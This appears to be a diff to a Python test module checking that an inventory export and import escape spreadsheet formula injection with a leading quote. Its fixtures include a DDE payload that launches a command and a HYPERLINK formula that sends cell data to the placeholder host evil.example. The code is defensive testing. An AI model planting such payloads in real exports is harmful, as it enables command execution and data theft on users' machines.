@@ -1,4 +1,4 @@
-"""Issue 8, "Exports are safe to open in a spreadsheet" (item 4; finding "Formula injection in exports"):
+"""Exports are safe to open in a spreadsheet (finding "Formula injection in exports"):
 owner names, extra column headers and other text cells that start with `=`, `+`, `-`, `@`, tab or
 carriage return are written with a leading `'` (OWASP CSV injection), in the inventory export and in
 the import's rejects file; and "the import keeps what the file had": importing an export changes nothing."""
@@ -11,7 +11,7 @@ from powts.inventory.importing.service import import_inventory
 from powts.inventory.models import Owner, System
 
 TODAY = dt.date(2026, 11, 29)
-# The issue's examples, and one of each dangerous first character.
+# The finding's examples, and one of each dangerous first character.
 EXTRA = "=cmd|'/c calc'!A1"
 EXTRA_KEY = "=cmd|'/c_calc'!a1"  # how the import names an extra column (normalise_header)
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1)", "+1", "-1+2", "=1+1"]
